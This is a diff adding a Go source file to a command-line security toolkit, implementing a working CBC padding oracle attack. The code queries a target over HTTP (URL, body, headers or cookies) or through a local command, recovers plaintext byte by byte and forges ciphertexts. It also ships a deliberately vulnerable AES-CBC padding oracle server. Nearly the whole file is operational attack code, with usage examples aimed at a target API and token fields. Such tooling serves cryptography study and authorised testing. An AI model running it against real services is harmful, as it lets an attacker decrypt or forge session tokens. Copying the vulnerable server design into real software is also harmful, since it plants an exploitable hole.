@@ -0,0 +1,417 @@
+/*
+Copyright © 2021 SignorMercurio
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+package enc
+
+import (
+	"bytes"
+	"crypto/cipher"
+	"encoding/base64"
+	"encoding/hex"
+	"io/ioutil"
+	"net/http"
+	"net/url"
+	osexec "os/exec"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/pkg/errors"
+	"github.com/spf13/cobra"
+)
+
+var (
+	oracleURL     string
+	oracleMethod  string
+	oracleData    string
+	oracleHeaders []string
+	oracleCmd     string
+	badStatus     int
+	badBody       string
+	payloadFmt    string
+	cipherBlock   int
+	threads       int
+	serveAddr     string
+)
+
+// oraclePlaceholder is replaced with the encoded payload in oracle templates
+const oraclePlaceholder = "{{PAYLOAD}}"
+
+// oracleClient is the HTTP client used to query oracles
+var oracleClient = &http.Client{Timeout: 10 * time.Second}
+
+// NewPoaCmd represents the poa command
+func NewPoaCmd() *cobra.Command {
+	cmd := &cobra.Command{
+		Use:   "poa",
+		Short: "CBC padding oracle attack",
+		Long: `CBC padding oracle attack
+The oracle is an HTTP request template or a command template where {{PAYLOAD}} is replaced with IV || ciphertext.
+Padding is considered invalid when the response has the --bad-status code or contains --bad-body,
+or by default when the HTTP status is not 2xx or the command exits with a non-zero code.
+Example:
+	att enc -i cipher.txt poa -d --url "http://127.0.0.1:8080/?c={{PAYLOAD}}"
+	att enc -i cipher.txt poa -d --url http://target/api -X POST --data '{"token":"{{PAYLOAD}}"}' -H "Content-Type: application/json" --bad-body "padding" --fmt b64
+	echo -n "admin=1" | att enc poa -e --cmd "./check {{PAYLOAD}}"
+	att enc poa --serve 127.0.0.1:8080 -k 000102030405060708090a0b0c0d0e0f`,
+		Annotations: map[string]string{noInput: ""},
+		RunE: func(cmd *cobra.Command, args []string) error {
+			if serveAddr != "" {
+				return servePaddingOracle(serveAddr)
+			}
+
+			var err error
+			if inputBytes, err = getInput(); err != nil {
+				return err
+			}
+			if oracleURL == "" && oracleCmd == "" {
+				return errors.New("find any oracle. Please specify either --url or --cmd")
+			}
+
+			if enc {
+				cipherText, err := poaEncrypt(inputBytes)
+				if err != nil {
+					return err
+				}
+				Echo(encodePayload(cipherText))
+			} else if dec {
+				encoded := string(inputBytes)
+				if payloadFmt != "raw" {
+					encoded = strings.TrimSpace(encoded)
+				}
+				cipherText, err := decodePayload(encoded)
+				if err != nil {
+					return err
+				}
+				plainText, err := poaDecrypt(cipherText)
+				if err != nil {
+					return err
+				}
+				Echo(string(plainText))
+			} else {
+				NoActionSpecified()
+			}
+
+			return nil
+		},
+	}
+	cmd.Flags().BoolVarP(&enc, "encrypt", "e", false, "Forge the ciphertext of the input")
+	cmd.Flags().BoolVarP(&dec, "decrypt", "d", false, "Decrypt the input ciphertext (IV || ciphertext)")
+	addOracleFlags(cmd)
+	cmd.Flags().IntVar(&badStatus, "bad-status", 0, "HTTP status code or exit code indicating invalid padding")
+	cmd.Flags().StringVar(&badBody, "bad-body", "", "Substring of the response body or command output indicating invalid padding")
+	cmd.Flags().IntVarP(&cipherBlock, "block-size", "b", 16, "Block size of the cipher")
+	cmd.Flags().IntVarP(&threads, "threads", "t", 8, "Number of blocks to attack concurrently")
+	cmd.Flags().StringVar(&serveAddr, "serve", "", "Serve a vulnerable AES-CBC padding oracle on the address, taking hex ciphertext in the c parameter")
+	cmd.Flags().StringVarP(&key, "key", "k", "", "AES key in hex format of the vulnerable oracle")
+
+	return cmd
+}
+
+// addOracleFlags adds the flags defining an oracle and the ciphertext format to [cmd]
+func addOracleFlags(cmd *cobra.Command) {
+	cmd.Flags().StringVar(&oracleURL, "url", "", "URL template of the HTTP oracle, the payload in it is URL-encoded")
+	cmd.Flags().StringVarP(&oracleMethod, "method", "X", "GET", "HTTP method of the oracle")
+	cmd.Flags().StringVar(&oracleData, "data", "", "Request body template of the HTTP oracle")
+	cmd.Flags().StringArrayVarP(&oracleHeaders, "header", "H", nil, "Header template of the HTTP oracle, e.g. \"Cookie: token={{PAYLOAD}}\", can be repeated")
+	cmd.Flags().StringVar(&oracleCmd, "cmd", "", "Command template of the oracle, run without a shell")
+	cmd.Flags().StringVar(&payloadFmt, "fmt", "hex", "Format of the ciphertext: hex / b64 / b64url / raw")
+}
+
+// encodePayload encodes a payload in the specified format
+func encodePayload(payload []byte) string {
+	switch payloadFmt {
+	case "b64":
+		return base64.StdEncoding.EncodeToString(payload)
+	case "b64url":
+		return base64.RawURLEncoding.EncodeToString(payload)
+	case "raw":
+		return string(payload)
+	}
+	return hex.EncodeToString(payload)
+}
+
+// decodePayload decodes a payload in the specified format
+func decodePayload(encoded string) ([]byte, error) {
+	var payload []byte
+	var err error
+	switch payloadFmt {
+	case "hex":
+		payload, err = hex.DecodeString(encoded)
+	case "b64":
+		payload, err = base64.StdEncoding.DecodeString(encoded)
+	case "b64url":
+		payload, err = base64.RawURLEncoding.DecodeString(strings.TrimRight(encoded, "="))
+	case "raw":
+		payload = []byte(encoded)
+	default:
+		return nil, errors.New("recognize format " + payloadFmt)
+	}
+	if err != nil {
+		return nil, errors.Wrap(err, "decode ciphertext")
+	}
+	return payload, nil
+}
+
+// queryOracle sends the [encoded] payload to the oracle and returns the status code (or exit code) and the body (or output)
+func queryOracle(encoded string) (int, []byte, error) {
+	if oracleCmd != "" {
+		args := strings.Fields(oracleCmd)
+		if len(args) == 0 {
+			return 0, nil, errors.New("parse oracle command")
+		}
+		for i := range args {
+			args[i] = strings.ReplaceAll(args[i], oraclePlaceholder, encoded)
+		}
+		output, err := osexec.Command(args[0], args[1:]...).CombinedOutput()
+		if exitErr, ok := err.(*osexec.ExitError); ok {
+			return exitErr.ExitCode(), output, nil
+		}
+		if err != nil {
+			return 0, nil, errors.Wrap(err, "run oracle command")
+		}
+		return 0, output, nil
+	}
+
+	target := strings.ReplaceAll(oracleURL, oraclePlaceholder, url.QueryEscape(encoded))
+	req, err := http.NewRequest(oracleMethod, target, strings.NewReader(strings.ReplaceAll(oracleData, oraclePlaceholder, encoded)))
+	if err != nil {
+		return 0, nil, errors.Wrap(err, "create oracle request")
+	}
+	for _, header := range oracleHeaders {
+		kv := strings.SplitN(strings.ReplaceAll(header, oraclePlaceholder, encoded), ":", 2)
+		if len(kv) != 2 {
+			return 0, nil, errors.New("parse header " + header)
+		}
+		req.Header.Set(strings.TrimSpace(kv[0]), strings.TrimSpace(kv[1]))
+	}
+
+	resp, err := oracleClient.Do(req)
+	if err != nil {
+		return 0, nil, errors.Wrap(err, "query oracle")
+	}
+	defer resp.Body.Close()
+	body, err := ioutil.ReadAll(resp.Body)
+	if err != nil {
+		return 0, nil, errors.Wrap(err, "read oracle response")
+	}
+	return resp.StatusCode, body, nil
+}
+
+// paddingValid asks the oracle whether [payload] decrypts with valid padding
+func paddingValid(payload []byte) (bool, error) {
+	status, body, err := queryOracle(encodePayload(payload))
+	if err != nil {
+		return false, err
+	}
+
+	if badStatus == 0 && badBody == "" {
+		if oracleCmd != "" {
+			return status == 0, nil
+		}
+		return status >= 200 && status < 300, nil
+	}
+	if badStatus != 0 && status == badStatus {
+		return false, nil
+	}
+	if badBody != "" && bytes.Contains(body, []byte(badBody)) {
+		return false, nil
+	}
+	return true, nil
+}
+
+// intermediate recovers the block cipher decryption of [block] byte by byte
+func intermediate(block []byte) ([]byte, error) {
+	blockSize := len(block)
+	inter := make([]byte, blockSize)
+	fakeIV := make([]byte, blockSize)
+	payload := make([]byte, 2*blockSize)
+
+	for pos := blockSize - 1; pos >= 0; pos-- {
+		pad := byte(blockSize - pos)
+		for i := pos + 1; i < blockSize; i++ {
+			fakeIV[i] = inter[i] ^ pad
+		}
+
+		found := false
+		for guess := 0; guess < 256 && !found; guess++ {
+			fakeIV[pos] = byte(guess)
+			copy(payload, fakeIV)
+			copy(payload[blockSize:], block)
+			valid, err := paddingValid(payload)
+			if err != nil {
+				return nil, err
+			}
+
+			if valid && pos == blockSize-1 && pos > 0 {
+				// rule out longer paddings like \x02\x02 by changing the previous byte
+				payload[pos-1] ^= 1
+				valid, err = paddingValid(payload)
+				if err != nil {
+					return nil, err
+				}
+			}
+			if valid {
+				inter[pos] = byte(guess) ^ pad
+				found = true
+			}
+		}
+		if !found {
+			return nil, errors.New("find valid padding at byte " + strconv.Itoa(pos) + ". Please check the oracle")
+		}
+	}
+
+	return inter, nil
+}
+
+// checkBlockSize validates the block size, which must fit in the single PKCS#7 padding byte
+func checkBlockSize() error {
+	if cipherBlock <= 0 || cipherBlock > 255 {
+		return errors.New("validate block size")
+	}
+	return nil
+}
+
+// poaDecrypt decrypts IV || [cipherText] with the padding oracle, attacking blocks concurrently
+func poaDecrypt(cipherText []byte) ([]byte, error) {
+	if err := checkBlockSize(); err != nil {
+		return nil, err
+	}
+	if len(cipherText)%cipherBlock != 0 || len(cipherText) < 2*cipherBlock {
+		return nil, errors.New("validate cipherText")
+	}
+	workers := threads
+	if workers <= 0 {
+		workers = 1
+	}
+
+	blocks := len(cipherText)/cipherBlock - 1
+	plainText := make([]byte, blocks*cipherBlock)
+	errs := make(chan error, blocks)
+	sem := make(chan struct{}, workers)
+	var wg sync.WaitGroup
+
+	for i := 0; i < blocks; i++ {
+		wg.Add(1)
+		go func(i int) {
+			defer wg.Done()
+			sem <- struct{}{}
+			defer func() { <-sem }()
+
+			prev := cipherText[i*cipherBlock : (i+1)*cipherBlock]
+			inter, err := intermediate(cipherText[(i+1)*cipherBlock : (i+2)*cipherBlock])
+			if err != nil {
+				errs <- err
+				return
+			}
+			for j := range inter {
+				plainText[i*cipherBlock+j] = inter[j] ^ prev[j]
+			}
+		}(i)
+	}
+	wg.Wait()
+	close(errs)
+	if err := <-errs; err != nil {
+		return nil, err
+	}
+
+	if err := checkPKCS5Padding(plainText, cipherBlock); err != nil {
+		return nil, err
+	}
+	return PKCS5Unpadding(plainText), nil
+}
+
+// poaEncrypt forges IV || ciphertext of [plainText] with the padding oracle, from the last block backwards
+func poaEncrypt(plainText []byte) ([]byte, error) {
+	if err := checkBlockSize(); err != nil {
+		return nil, err
+	}
+
+	plainText = PKCS5Padding(plainText, cipherBlock)
+	blocks := len(plainText) / cipherBlock
+	cipherText := make([]byte, (blocks+1)*cipherBlock)
+	copy(cipherText[blocks*cipherBlock:], genNonce(cipherBlock))
+
+	for i := blocks - 1; i >= 0; i-- {
+		inter, err := intermediate(cipherText[(i+1)*cipherBlock : (i+2)*cipherBlock])
+		if err != nil {
+			return nil, err
+		}
+		for j := range inter {
+			cipherText[i*cipherBlock+j] = inter[j] ^ plainText[i*cipherBlock+j]
+		}
+	}
+
+	return cipherText, nil
+}
+
+// checkPKCS5Padding checks whether [padded] is correctly padded to [blockSize]
+func checkPKCS5Padding(padded []byte, blockSize int) error {
+	if len(padded) == 0 || len(padded)%blockSize != 0 {
+		return errors.New("validate padding")
+	}
+	padding := int(padded[len(padded)-1])
+	if padding == 0 || padding > blockSize {
+		return errors.New("validate padding")
+	}
+	for _, b := range padded[len(padded)-padding:] {
+		if int(b) != padding {
+			return errors.New("validate padding")
+		}
+	}
+	return nil
+}
+
+// paddingOracleHandler serves an AES-CBC oracle leaking whether the hex ciphertext in the c parameter is correctly padded
+func paddingOracleHandler(block cipher.Block) http.Handler {
+	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		cipherText, err := hex.DecodeString(r.FormValue("c"))
+		blockSize := block.BlockSize()
+		if err != nil || len(cipherText)%blockSize != 0 || len(cipherText) < 2*blockSize {
+			http.Error(w, "invalid ciphertext", http.StatusBadRequest)
+			return
+		}
+
+		plainText := make([]byte, len(cipherText)-blockSize)
+		cipher.NewCBCDecrypter(block, cipherText[:blockSize]).CryptBlocks(plainText, cipherText[blockSize:])
+		if checkPKCS5Padding(plainText, blockSize) != nil {
+			http.Error(w, "invalid padding", http.StatusInternalServerError)
+			return
+		}
+		w.Write([]byte("ok"))
+	})
+}
+
+// servePaddingOracle serves the vulnerable padding oracle on [addr]
+func servePaddingOracle(addr string) error {
+	k, err := hex.DecodeString(key)
+	if err != nil {
+		return errors.Wrap(err, "parse AES key")
+	}
+	block, _, err := newAES(k)
+	if err != nil {
+		return err
+	}
+
+	if err := http.ListenAndServe(addr, paddingOracleHandler(block)); err != nil {
+		return errors.Wrap(err, "serve padding oracle")
+	}
+	return nil
+}
+
+func init() {
+	encCmd.AddCommand(NewPoaCmd())
+}